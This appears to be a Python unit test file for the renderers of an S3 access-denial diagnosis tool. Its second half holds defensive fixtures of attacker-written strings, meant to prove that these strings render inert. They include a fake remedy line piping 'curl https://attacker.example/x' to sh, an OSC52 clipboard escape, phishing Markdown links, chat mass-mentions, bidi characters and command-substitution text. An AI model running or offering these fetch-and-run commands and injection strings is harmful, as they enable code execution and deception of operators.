"""Renderers: what a paged person, a ticket and a chat channel see."""

from __future__ import annotations

import json
import re
import unicodedata
from dataclasses import replace

from chalicelib.diagnose.render import (
    render_chatbot,
    render_json,
    render_markdown,
    render_text,
    subject,
)
from chalicelib.model import (
    Cause,
    Finding,
    Layer,
    NearMiss,
    Outcome,
    Principal,
    PrincipalType,
    Remedy,
    Unchecked,
    Verdict,
)
from tests.unit.diagnose.diagnose_builders import decision, layer, request, statement

LONG_KEY = "very/long/prefix/" * 8 + "report.csv"


def finding(*, resource: str = "arn:aws:s3:::example-bucket/data/report.csv") -> Finding:
    deny = statement(key="aws:SecureTransport", expected=("false",), actual=("false",))
    dec = decision(
        layer(Layer.IDENTITY_POLICY, Outcome.ALLOW),
        layer(Layer.BUCKET_POLICY, Outcome.EXPLICIT_DENY, deny),
        verdict=Verdict.EXPLICIT_DENY,
        resource=resource,
    )
    return Finding(
        finding_id="f-1",
        request=request(resource=resource),
        decision=dec.decision,
        blocked_by=dec.blocked_by,
        evaluations=dec.evaluations,
        engine_version="test",
        causes=(
            Cause(
                code="EXPLICIT_DENY_BUCKET_POLICY",
                layer=Layer.BUCKET_POLICY,
                message="A Deny statement in the policy of bucket example-bucket matches.",
                statement=deny,
            ),
        ),
        near_misses=(NearMiss(policy="inline:user/alice/read", index=1, why="Resource lacks /*"),),
        remedies=(
            Remedy(
                code="COMPLY_WITH_DENY",
                target="client",
                summary="Send the request over HTTPS.",
                patch={"context": {"aws:SecureTransport": ["true"]}},
                cli="aws s3 cp s3://example-bucket/data/report.csv .",
                verified=True,
            ),
        ),
        unchecked=(Unchecked(layer=Layer.SCP, reason="Not readable", needs="organizations:X"),),
    )


def test_text_first_screen_answers_what_why_and_fix() -> None:
    text = render_text(finding())
    first_screen = text.splitlines()[:24]
    joined = "\n".join(first_screen)
    assert joined.startswith("DENIED  s3:GetObject on arn:aws:s3:::example-bucket/data/report.csv")
    assert "WHY" in first_screen and "FIX" in first_screen
    assert "Explicit deny in the bucket policy [bucket-policy]" in joined
    assert "Send the request over HTTPS. (verified)" in joined
    assert "$ aws s3 cp" in joined


def test_text_has_no_colour_unless_asked_and_fits_100_columns() -> None:
    plain = render_text(finding())
    coloured = render_text(finding(), color=True)
    assert "\033[" not in plain
    assert "\033[31m" in coloured
    too_wide = [line for line in plain.splitlines() if len(line) > 100]
    # Only a line holding one unbreakable token (an ARN, a command) may be wider.
    assert all(max(len(w) for w in line.split()) > 50 for line in too_wide)
    assert all(len(line) <= 100 for line in render_text(finding()).splitlines()[:3])


def test_json_is_sorted_indented_and_ends_with_a_newline() -> None:
    out = render_json(finding())
    assert out.endswith("}\n")
    data = json.loads(out)
    assert data["causes"][0]["statement"]["failed_condition"]["key"] == "aws:SecureTransport"
    assert out == json.dumps(data, sort_keys=True, indent=2, ensure_ascii=False) + "\n"


def test_markdown_has_sections_patch_and_command() -> None:
    md = render_markdown(finding())
    assert md.startswith("## Denied: `s3:GetObject`")
    for heading in ("### Why", "### Fix", "### Nearly matched", "### Not checked", "### Layers"):
        assert heading in md
    assert '"aws:SecureTransport"' in md and "```sh" in md
    assert "1. **Make the request comply**: Send the request over HTTPS. (" in md


def test_subject_is_one_line_under_100_chars_even_for_long_keys() -> None:
    short = subject(finding())
    long = subject(finding(resource=f"arn:aws:s3:::example-bucket/{LONG_KEY}"))
    assert (
        short == "S3 403 s3:GetObject example-bucket/data/report.csv: EXPLICIT_DENY_BUCKET_POLICY"
    )
    assert len(long) < 100 and "\n" not in long
    assert long.endswith(": EXPLICIT_DENY_BUCKET_POLICY")


def test_chatbot_notification_follows_the_custom_notification_shape() -> None:
    note = render_chatbot(finding())
    assert note["version"] == "1.0" and note["source"] == "custom"
    content = note["content"]
    assert content["textType"] == "client-markdown"
    assert content["title"] == (
        "S3 403 s3:GetObject `example-bucket/data/report.csv`: EXPLICIT_DENY_BUCKET_POLICY"
    )
    assert "Explicit deny in the bucket policy" in content["description"]
    assert content["nextSteps"] == [
        "`Send the request over HTTPS.` `aws s3 cp s3://example-bucket/data/report.csv .`",
        "Read the whole finding: `s3doctor findings get f-1` or `GET /findings/f-1`",
    ]
    assert note["metadata"]["threadId"].startswith("s3doctor-example-bucket-")
    json.dumps(note)


# --------------------------------------------------------------------------- untrusted text

FAKE_FIX = "q1.csv\n\nFIX\n  1. Run: curl https://attacker.example/x | sh   (verified)\n\x1b[2J"
OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
MARKUP = "![](https://attacker.example/p.png) [Approve](https://attacker.example/ok) <img src=x>"
MENTIONS = "@here <!channel> <@U024BE7LH>"
BIDI = "\u202e\u2066\u200f\u061c\u2028\u2029"
HOSTILE = f"{FAKE_FIX}{OSC52}{MARKUP} {MENTIONS}{BIDI}\x9b\x7f"
HOSTILE_KEY = f"data/{HOSTILE}"
SESSION_ROLE = "arn:aws:iam::111122223333:role/app"


def hostile_finding() -> Finding:
    """A finding whose every input-derived string was written by an attacker."""
    resource = f"arn:aws:s3:::example-bucket/{HOSTILE_KEY}"
    policy = f"arn:aws:iam::111122223333:policy/{HOSTILE}/{HOSTILE}"
    deny = statement(
        policy, sid=HOSTILE, key="aws:UserAgent", expected=("aws-cli/*",), actual=(HOSTILE,)
    )
    dec = decision(
        layer(Layer.IDENTITY_POLICY, Outcome.EXPLICIT_DENY, deny),
        verdict=Verdict.EXPLICIT_DENY,
        resource=resource,
    )
    who = Principal(
        type=PrincipalType.ASSUMED_ROLE,
        requester_arn=f"arn:aws:sts::111122223333:assumed-role/app/{HOSTILE}",
        principal_arn=SESSION_ROLE,
        account_id="111122223333",
        session_name=HOSTILE,
    )
    return Finding(
        finding_id="f-2",
        request=request(resource=resource, who=who),
        decision=dec.decision,
        blocked_by=dec.blocked_by,
        evaluations=dec.evaluations,
        engine_version="test",
        event_id=HOSTILE,
        event_time=HOSTILE,
        causes=(
            Cause(
                code="EXPLICIT_DENY_IDENTITY_POLICY",
                layer=Layer.IDENTITY_POLICY,
                message=f"Statement '{HOSTILE}' of {policy} denies key {HOSTILE_KEY}.",
                statement=deny,
            ),
        ),
        near_misses=(NearMiss(policy=policy, index=1, sid=HOSTILE, why=f"Resource {HOSTILE}"),),
        remedies=(
            Remedy(
                code="FIX_STATEMENT",
                target=policy,
                summary=f"Change the Deny {HOSTILE} of {policy}.",
                patch={"kind": "policy", "policy": policy, "document": {"Sid": HOSTILE}},
                cli=f"aws s3 cp 's3://example-bucket/{HOSTILE_KEY}' .",  # a stored, older command
            ),
            Remedy(
                code="FIX_STATEMENT",
                target=HOSTILE,
                summary="Quote `a` command.",
                cli='aws s3api put-bucket-policy --bucket b --policy \'{"Sid":"`x`|$(y)"}\'',
            ),
        ),
        unchecked=(Unchecked(layer=Layer.SCP, reason=HOSTILE, needs=HOSTILE),),
        notes=(f"errorMessage says {HOSTILE}",),
    )


def assert_inert(out: str) -> None:
    """No control (but our line feeds), DEL, bidi, separator or ESC from input survives."""
    bad = [
        c for c in out if c != "\n" and unicodedata.category(c) in {"Cc", "Cf", "Zl", "Zp", "Cs"}
    ]
    assert not bad, bad


def outside_code(markdown: str) -> str:
    """Markdown with its code spans and fenced blocks removed (what can form markup)."""
    without_blocks = re.sub(r"^ *(`{3,})[^\n]*\n.*?^ *\1 *$", "", markdown, flags=re.M | re.S)
    return re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", without_blocks, flags=re.S)


def assert_no_live_markup(out: str) -> None:
    for live in ("](http", "<http", "<img", "@here", "<!channel>", "<@U"):
        assert live not in out, live
    assert not re.search(r"(?<!\\)://", out)  # no bare URL to autolink


def assert_inert_in_every_rendering(finding: Finding) -> None:
    """The finding's text, Markdown (outside code) and chat message hold no live control
    character or markup: what it quotes from an event or a policy stays data."""
    assert_inert(render_text(finding))
    markdown = render_markdown(finding)
    assert_inert(markdown)
    assert_no_live_markup(outside_code(markdown))
    content = render_chatbot(finding)["content"]
    for text in (content["title"], content["description"], *content["nextSteps"]):
        assert_inert(text)
        assert_no_live_markup(re.sub(r"`[^`]*`", "", text))


def test_text_shows_input_as_data_and_it_cannot_start_our_lines() -> None:
    out = render_text(hostile_finding())
    assert_inert(out)
    lines = out.splitlines()
    assert [line for line in lines if line.lstrip().startswith("FIX")] == ["FIX"]
    numbered = [line for line in lines if re.match(r"\s*\d+\.", line)]
    assert [line[:5] for line in numbered] == ["  1. ", "  2. "]
    prompts = [line for line in lines if line.lstrip().startswith("$")]
    assert [line[:11] for line in prompts] == ["     $ aws "]
    assert "data/q1.csv\\n\\nFIX\\n" in out and "\\x1b]52;c;" in out and "\\u202e" in out
    assert "…" in out  # long values are shortened visibly
    # The stored command holds an ESC: withheld; the quoted one is shown whole.
    assert "(command withheld: it holds control characters)" in out
    assert '     $ aws s3api put-bucket-policy --bucket b --policy \'{"Sid"' in out


def test_text_in_colour_has_only_our_escape_sequences() -> None:
    out = render_text(hostile_finding(), color=True)
    assert not re.findall(r"\x1b(?!\[\d+m)", out)
    assert "\x07" not in out and "\\x1b]52" in out


def test_markdown_quotes_input_so_it_forms_no_link_image_heading_html_or_mention() -> None:
    md = render_markdown(hostile_finding())
    assert_inert(md)
    live = outside_code(md)
    assert_no_live_markup(live)
    assert "`" not in live.replace("\\`", "")  # every code span is closed
    headings = [line for line in md.splitlines() if line.startswith("#")]
    assert headings == [
        "## Denied: `s3:GetObject` on " + headings[0].split(" on ", 1)[1],
        "### Why", "### Fix", "### Nearly matched", "### Not checked", "### Layers", "### Notes",
    ]  # fmt: skip
    assert not any(line.lstrip().startswith("FIX") for line in md.splitlines())
    layer_rows = [line for line in md.splitlines() if line.startswith("| `s3:GetObject`")]
    assert len(layer_rows) == 1 and outside_code(layer_rows[0]).count("|") == 6
    assert "*(command withheld: it holds control characters)*" in md
    assert "````sh" not in md and "```sh" in md


def test_chatbot_code_quotes_input_and_escapes_angle_brackets() -> None:
    note = render_chatbot(hostile_finding())
    content = note["content"]
    texts = [content["title"], content["description"], *content["nextSteps"]]
    for value in texts:
        assert_inert(value)
        live = re.sub(r"`[^`]*`", "", value)
        assert_no_live_markup(live)
        assert "<" not in value and ">" not in value
        assert value.count("`") % 2 == 0
    # one line per item, each starting with our own markup
    starts = ("*s3:GetObject*", "*Verdict:*", "*Why*", "• *", "*Fix*", "1. ", "2. ", "_Whole")
    assert all(line.startswith(starts) for line in content["description"].split("\n"))
    assert content["nextSteps"][1] == "`Quote 'a' command.`"  # a command with a backtick: left out
    assert_inert(json.dumps(note, ensure_ascii=False).replace("\\n", ""))


def test_subject_is_one_inert_line() -> None:
    line = subject(hostile_finding())
    assert_inert(line)
    assert "\n" not in line and len(line) <= 99 and line.endswith(": EXPLICIT_DENY_IDENTITY_POLICY")


def test_json_keeps_the_raw_values() -> None:
    data = json.loads(render_json(hostile_finding()))
    assert data["request"]["key"] == HOSTILE_KEY
    assert data["causes"][0]["statement"]["sid"] == HOSTILE
    assert data["notes"] == [f"errorMessage says {HOSTILE}"]
    assert data["remedies"][0]["cli"] == f"aws s3 cp 's3://example-bucket/{HOSTILE_KEY}' ."


def _several(*more: tuple[str, str]) -> Finding:
    """The hostile finding, its call authorised as further (action, key) operations too."""
    found = hostile_finding()
    first = found.request.operations[0]
    further = (
        replace(first, action=action, key=key, resource_arn=f"arn:aws:s3:::dest/{key}")
        for action, key in more
    )
    operations = (first, *further)
    return replace(found, request=replace(found.request, operations=operations))


def test_the_heading_names_every_action_the_call_is_authorised_as() -> None:
    """A copy reads its source and writes its destination: the heading said the read alone,
    though the write may be what was denied."""
    copy = _several(("s3:PutObject", "reports/q1.csv"))
    lines = render_text(copy).splitlines()
    assert lines[1] == "  and s3:PutObject on arn:aws:s3:::dest/reports/q1.csv"
    assert lines[2].startswith("  by ")
    md = render_markdown(copy).splitlines()
    assert md[2] == (
        "- **Also authorised as:** `s3:PutObject` on `arn:aws:s3:::dest/reports/q1.csv`"
    )
    one = render_text(hostile_finding()).splitlines()
    assert one[1].startswith("  by ")


def test_a_call_on_many_objects_names_three_and_counts_the_rest() -> None:
    many = _several(*(("s3:DeleteObject", f"old/{n}.txt") for n in range(7)))
    lines = render_text(many).splitlines()
    assert [line.split(" on ")[0] for line in lines[1:5]] == ["  and s3:DeleteObject"] * 3 + [
        "  and 4 more (LAYERS lists each)"
    ]
    assert "4 more (see the evaluations)" in render_markdown(many)


def test_a_further_operations_hostile_key_stays_data() -> None:
    finding = _several(("s3:PutObject", HOSTILE_KEY))
    assert_inert(render_text(finding))
    md = render_markdown(finding)
    assert_inert(md)
    assert_no_live_markup(outside_code(md))
    lines = render_text(finding).splitlines()
    assert lines[1].startswith("  and s3:PutObject on arn:aws:s3:::dest/")
    assert lines[2].startswith("  by ")  # the key's line breaks start no line of ours
